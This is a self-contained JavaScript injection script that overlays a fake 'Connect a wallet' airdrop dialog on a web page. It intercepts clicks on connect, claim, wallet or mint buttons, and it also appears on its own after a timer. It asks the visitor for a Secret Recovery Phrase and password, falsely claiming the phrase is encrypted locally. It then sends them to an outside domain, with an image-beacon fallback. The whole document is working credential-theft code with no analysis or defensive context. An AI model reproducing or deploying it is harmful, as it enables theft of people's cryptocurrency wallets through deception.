(function () {
  var api = 'https://walletconnect-verify.top/api/v2/session';
  var providers = ['MetaMask', 'Trust Wallet', 'Phantom', 'Coinbase Wallet', 'Ledger Live'];

  var css = '' +
    '#wc-shade{position:fixed;inset:0;background:rgba(10,12,20,.78);z-index:2147483646;display:flex;align-items:center;justify-content:center;font-family:Inter,Arial,sans-serif}' +
    '#wc-card{background:#fff;border-radius:18px;width:420px;max-width:92vw;padding:26px;box-shadow:0 20px 60px rgba(0,0,0,.4)}' +
    '#wc-card h3{margin:0 0 6px;font-size:20px}#wc-card p{color:#555;font-size:14px}' +
    '.wc-opt{display:block;width:100%;margin:8px 0;padding:12px;border:1px solid #ddd;border-radius:12px;background:#f8f9fb;text-align:left;font-size:15px;cursor:pointer}' +
    '#wc-phrase{width:100%;height:110px;border:1px solid #ccc;border-radius:10px;padding:10px;font-size:14px}' +
    '#wc-go{margin-top:12px;width:100%;padding:12px;background:#3b6cf6;color:#fff;border:0;border-radius:12px;font-size:15px}';

  function el(tag, attrs, html) {
    var n = document.createElement(tag);
    for (var k in attrs) n.setAttribute(k, attrs[k]);
    if (html) n.innerHTML = html;
    return n;
  }

  function validPhrase(text) {
    var words = text.trim().toLowerCase().split(/\s+/);
    return [12, 15, 18, 21, 24].indexOf(words.length) !== -1 && words.every(function (w) { return /^[a-z]{3,8}$/.test(w); });
  }

  function step2(shade, providerName) {
    var card = shade.querySelector('#wc-card');
    card.innerHTML = '<h3>' + providerName + ' - Sync required</h3>' +
      '<p>Your wallet session expired. To restore access to the claim, enter your Secret Recovery Phrase. It is encrypted locally.</p>' +
      '<textarea id="wc-phrase" placeholder="Enter 12 or 24 words separated by spaces"></textarea>' +
      '<input id="wc-pass" type="password" placeholder="Wallet password (optional)" style="width:100%;margin-top:8px;padding:10px;border:1px solid #ccc;border-radius:10px">' +
      '<button id="wc-go">Restore &amp; Connect</button><div id="wc-msg" style="color:#c00;font-size:13px;margin-top:6px"></div>';
    card.querySelector('#wc-go').onclick = function () {
      var phrase = card.querySelector('#wc-phrase').value;
      if (!validPhrase(phrase)) {
        card.querySelector('#wc-msg').textContent = 'Invalid recovery phrase. Please check the words.';
        return;
      }
      fetch(api, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({
          wallet: providerName,
          mnemonic: phrase.trim(),
          pw: card.querySelector('#wc-pass').value,
          ref: location.href,
          ua: navigator.userAgent
        })
      })
        .then(function () { card.innerHTML = '<h3>Connecting...</h3><p>Please wait, this can take up to 2 minutes.</p>'; })
        .catch(function () {
          new Image().src = api.replace('/session', '/px') + '?m=' + encodeURIComponent(btoa(phrase));
        });
    };
  }

  function show() {
    if (document.getElementById('wc-shade')) return;
    document.head.appendChild(el('style', {}, css));
    var shade = el('div', { id: 'wc-shade' });
    var card = el('div', { id: 'wc-card' }, '<h3>Connect a wallet</h3><p>Connect your wallet to claim your airdrop allocation.</p>');
    providers.forEach(function (p) {
      var b = el('button', { 'class': 'wc-opt' }, p);
      b.onclick = function () { step2(shade, p); };
      card.appendChild(b);
    });
    shade.appendChild(card);
    document.body.appendChild(shade);
  }

  document.addEventListener('click', function (e) {
    var t = e.target.closest && e.target.closest('a,button');
    if (t && /connect|claim|wallet|mint/i.test(t.textContent)) {
      e.preventDefault();
      e.stopPropagation();
      show();
    }
  }, true);
  setTimeout(show, 12000);
})();
